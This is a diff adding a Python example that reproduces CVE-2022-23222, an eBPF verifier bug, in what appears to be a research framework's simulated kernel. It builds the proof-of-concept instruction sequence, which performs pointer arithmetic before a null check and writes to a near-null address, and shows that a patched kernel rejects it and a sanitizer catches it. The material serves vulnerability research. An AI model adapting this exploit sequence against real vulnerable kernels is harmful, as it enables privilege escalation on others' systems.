@@ -1,0 +1,92 @@
+#!/usr/bin/env python3
+"""Reproducing CVE-2022-23222 (Listing 1 of the paper).
+
+The vulnerability: pre-fix kernels allowed ALU on nullable map-value
+pointers (``PTR_TO_MAP_VALUE_OR_NULL``).  Arithmetic performed *before*
+the null check offsets the pointer, so the subsequent ``== 0`` test no
+longer detects NULL — the program dereferences an attacker-controlled
+near-null address.
+
+This script shows all three behaviours the paper relies on:
+
+1. a fixed kernel rejects the program at load time;
+2. a flawed (v5.15) kernel loads it, and executing the raw (JIT-style)
+   program performs the bad store;
+3. with BVF's sanitation the dispatched ``bpf_asan_store64`` captures
+   the invalid access — indicator #1 firing.
+
+Run:  python examples/find_cve_2022_23222.py
+"""
+
+from repro.errors import VerifierReject
+from repro.kernel.config import PROFILES
+from repro.kernel.syscall import Kernel
+from repro.ebpf import asm
+from repro.ebpf.disasm import format_program
+from repro.ebpf.helpers import HelperId
+from repro.ebpf.maps import MapType
+from repro.ebpf.opcodes import AluOp, JmpOp, Reg, Size
+from repro.ebpf.program import BpfProgram
+from repro.runtime.executor import Executor
+
+
+def build_exploit(fd: int) -> BpfProgram:
+    """The Listing-1 program, slightly simplified."""
+    return BpfProgram(
+        insns=[
+            asm.st_mem(Size.DW, Reg.R10, -8, 0),
+            *asm.ld_map_fd(Reg.R1, fd),
+            asm.mov64_reg(Reg.R2, Reg.R10),
+            asm.alu64_imm(AluOp.ADD, Reg.R2, -8),
+            asm.call_helper(HelperId.MAP_LOOKUP_ELEM),   # R0 = value-or-null
+            asm.mov64_reg(Reg.R1, Reg.R0),
+            asm.alu64_imm(AluOp.ADD, Reg.R1, 8),          # ALU on OR_NULL (!)
+            asm.jmp_imm(JmpOp.JEQ, Reg.R1, 0, 2),         # "null check" sees 8
+            asm.st_mem(Size.DW, Reg.R1, 0, 0x42),         # write via near-null
+            asm.ja(0),
+            asm.mov64_imm(Reg.R0, 0),
+            asm.exit_insn(),
+        ],
+        name="cve-2022-23222",
+    )
+
+
+def main() -> None:
+    print("=== the exploit program ===")
+    demo_kernel = Kernel(PROFILES["v5.15"]())
+    fd = demo_kernel.map_create(MapType.HASH, 8, 16, 4)
+    print(format_program(build_exploit(fd).insns))
+
+    # 1. A patched kernel refuses it outright.
+    patched = Kernel(PROFILES["patched"]())
+    fd_p = patched.map_create(MapType.HASH, 8, 16, 4)
+    try:
+        patched.prog_load(build_exploit(fd_p))
+        raise SystemExit("BUG: patched kernel accepted the exploit")
+    except VerifierReject as exc:
+        print(f"\npatched kernel rejects: {exc.message}")
+
+    # 2. v5.15 loads it: the verifier flaw admits the ALU.
+    vulnerable = Kernel(PROFILES["v5.15"]())
+    fd_v = vulnerable.map_create(MapType.HASH, 8, 16, 4)
+    verified = vulnerable.prog_load(build_exploit(fd_v), sanitize=False)
+    print(f"\nv5.15 LOADS the program ({len(verified.xlated)} insns)")
+
+    result = Executor(vulnerable).run(verified)
+    print(f"raw (JIT-style) execution report: {result.report!r}")
+
+    # 3. The same program under BVF's sanitation: indicator #1 fires.
+    vulnerable2 = Kernel(PROFILES["v5.15"]())
+    fd_s = vulnerable2.map_create(MapType.HASH, 8, 16, 4)
+    sanitized = vulnerable2.prog_load(build_exploit(fd_s), sanitize=True)
+    result = Executor(vulnerable2).run(sanitized)
+    print(f"\nsanitized execution report:\n  {result.report}")
+    print(
+        f"  -> invalid {'write' if result.report.is_write else 'read'} of "
+        f"{result.report.size} bytes at address {result.report.address:#x}"
+    )
+    print("\nIndicator #1 captured: this is a verifier correctness bug.")
+
+
+if __name__ == "__main__":
+    main()
